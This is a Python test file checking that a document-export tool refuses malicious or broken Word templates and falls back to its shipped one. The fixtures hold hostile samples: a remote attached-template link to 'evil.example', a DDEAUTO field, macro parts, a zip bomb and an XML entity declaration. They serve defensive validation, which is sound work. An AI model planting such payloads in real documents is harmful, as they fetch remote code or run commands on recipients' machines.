"""Templates come from outside: what is broken, locked, armed or bombed is refused by name, and the shipped one offered."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from docx import Document

from prtui import documents
from prtui.documents import templates
from prtui.errors import NotFound, Refused
from tests.test_documents_golden import ROWS, STATEMENT, context

GOOD = templates.shipped() / "statement.zh.docx"


def altered(changes: dict[str, bytes], drop: str = "") -> bytes:
    """The shipped statement with these parts put in or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(GOOD) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            if name not in changes and name != drop:
                archive.writestr(name, source.read(name))
        for name, content in changes.items():
            archive.writestr(name, content)
    return out.getvalue()


def part(name: str) -> bytes:
    with zipfile.ZipFile(GOOD) as source:
        return source.read(name)


def bomb() -> bytes:
    return altered({"word/media/image1.png": b"\0" * 70_000_000})


RELS = "word/_rels/document.xml.rels"
OUTSIDE = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
BAD = {
    "not a zip": b"hello",
    "cut short": GOOD.read_bytes()[:9000],
    "locked": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "no document": altered({}, drop="word/document.xml"),
    "macros": altered({"word/vbaProject.bin": b"x"}),
    "macro type": altered({"[Content_Types].xml": part("[Content_Types].xml").replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")}),
    "bomb": bomb(),
    "entities": altered({"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "outside": altered({RELS: part(RELS).replace(b"</Relationships>", OUTSIDE)}),
    "field": altered({"word/document.xml": part("word/document.xml").replace(b"<w:body>", b"<w:body><w:p><w:r><w:instrText> DDEAUTO c:\\x </w:instrText></w:r></w:p>", 1)}),
    "protected": altered({"word/settings.xml": part("word/settings.xml").replace(b"<w:zoom", b'<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:zoom', 1)}),
    "broken xml": altered({"word/document.xml": b"<w:document"}),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_a_bad_template_is_refused_by_name_and_the_shipped_one_still_serves(name: str, tmp_path: Path) -> None:
    own = templates.folder(tmp_path) / "statement.zh.docx"
    own.parent.mkdir()
    own.write_bytes(BAD[name])
    with pytest.raises(templates.TemplateRefused) as caught:
        documents.export("statement", STATEMENT, context(tmp_path), "zh")
    assert "statement.zh.docx" in caught.value.message and caught.value.reason and "statement.zh" in caught.value.hint
    assert len(templates.check("statement", "zh", tmp_path)) == 1
    made = documents.export("statement", STATEMENT, context(tmp_path), "zh", only_shipped=True)
    assert made.path.is_file()


def test_hers_is_used_before_the_shipped_one_and_can_be_put_back(tmp_path: Path) -> None:
    own = templates.copy_out("statement", "zh", tmp_path)
    assert own.stat().st_mode & 0o777 == 0o600
    changed = Document(str(own))
    changed.add_paragraph("她的{{title}}，{{number}}。")
    changed.save(str(own))
    lines = documents.preview("statement", STATEMENT, context(tmp_path), "zh")
    assert f"她的{STATEMENT.title}，第1号。" in lines
    assert [one.own for one in templates.listing(tmp_path) if one.kind == "statement"] == [True, False]
    with pytest.raises(Refused, match="there already"):
        templates.copy_out("statement", "zh", tmp_path)
    kept = templates.restore("statement", "zh", tmp_path)
    assert kept is not None and kept.is_file()
    assert "她的" not in "".join(documents.preview("statement", STATEMENT, context(tmp_path), "zh"))
    assert templates.restore("statement", "zh", tmp_path) is None


def test_check_names_an_unknown_slot_with_the_nearest(tmp_path: Path) -> None:
    own = templates.copy_out("minutes", "en", tmp_path)
    changed = Document(str(own))
    changed.add_paragraph("{{chairr}}")
    changed.save(str(own))
    [problem] = templates.check("minutes", "en", tmp_path)
    assert "{{chairr}}" in problem and "{{chair}}" in problem
    assert [one.problem for one in templates.listing(tmp_path) if one.own] == [problem]


def without(slot: str, path: Path) -> None:
    """Take the paragraphs that name the slot out of a template."""
    changed = Document(str(path))
    for paragraph in changed.paragraphs:
        if f"{{{{{slot}}}}}" in paragraph.text:
            paragraph._p.getparent().remove(paragraph._p)
    changed.save(str(path))


@pytest.mark.parametrize("kind", documents.deliverables())
def test_a_template_without_a_place_for_the_text_is_refused(kind: str, tmp_path: Path) -> None:
    own = templates.copy_out(kind, "zh", tmp_path)
    lacking = documents.deliverables()[kind].needs[-1][0]
    without(lacking, own)
    [problem] = templates.check(kind, "zh", tmp_path)
    assert f"{{{{{lacking}}}}}" in problem and f"templates restore {kind}.zh" in problem
    with pytest.raises(templates.TemplateRefused) as caught:
        documents.export(kind, ROWS[kind], context(tmp_path), "zh")
    assert f"{kind}.zh.docx" in caught.value.message and not (tmp_path / "exports").exists()
    assert documents.export(kind, ROWS[kind], context(tmp_path), "zh", only_shipped=True).path.is_file()


def test_an_invitation_may_name_its_guest_and_time_in_its_own_words(tmp_path: Path) -> None:
    own = templates.copy_out("invitation", "zh", tmp_path)
    for slot in ("salutation", "greeting", "box"):
        without(slot, own)
    changed = Document(str(own))
    changed.add_paragraph("恭请{{guest.name}}于{{when}}莅临。")
    changed.save(str(own))
    assert templates.check("invitation", "zh", tmp_path) == []


def test_an_unknown_slot_refuses_the_export_by_the_templates_name(tmp_path: Path) -> None:
    own = templates.copy_out("statement", "zh", tmp_path)
    changed = Document(str(own))
    changed.add_paragraph("{{titel}}")
    changed.save(str(own))
    with pytest.raises(templates.TemplateRefused) as caught:
        documents.export("statement", STATEMENT, context(tmp_path), "zh")
    assert "statement.zh.docx" in caught.value.message and "{{title}}" in caught.value.message
    assert "templates restore statement.zh" in caught.value.hint


def test_every_shipped_template_is_fit(tmp_path: Path) -> None:
    found = templates.listing(tmp_path)
    assert len(found) == 2 * len(documents.deliverables()) and not any(one.problem or one.own for one in found)


def test_there_is_no_template_of_that_name(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match=r"poem\.zh"):
        templates.find("poem", "zh", tmp_path)
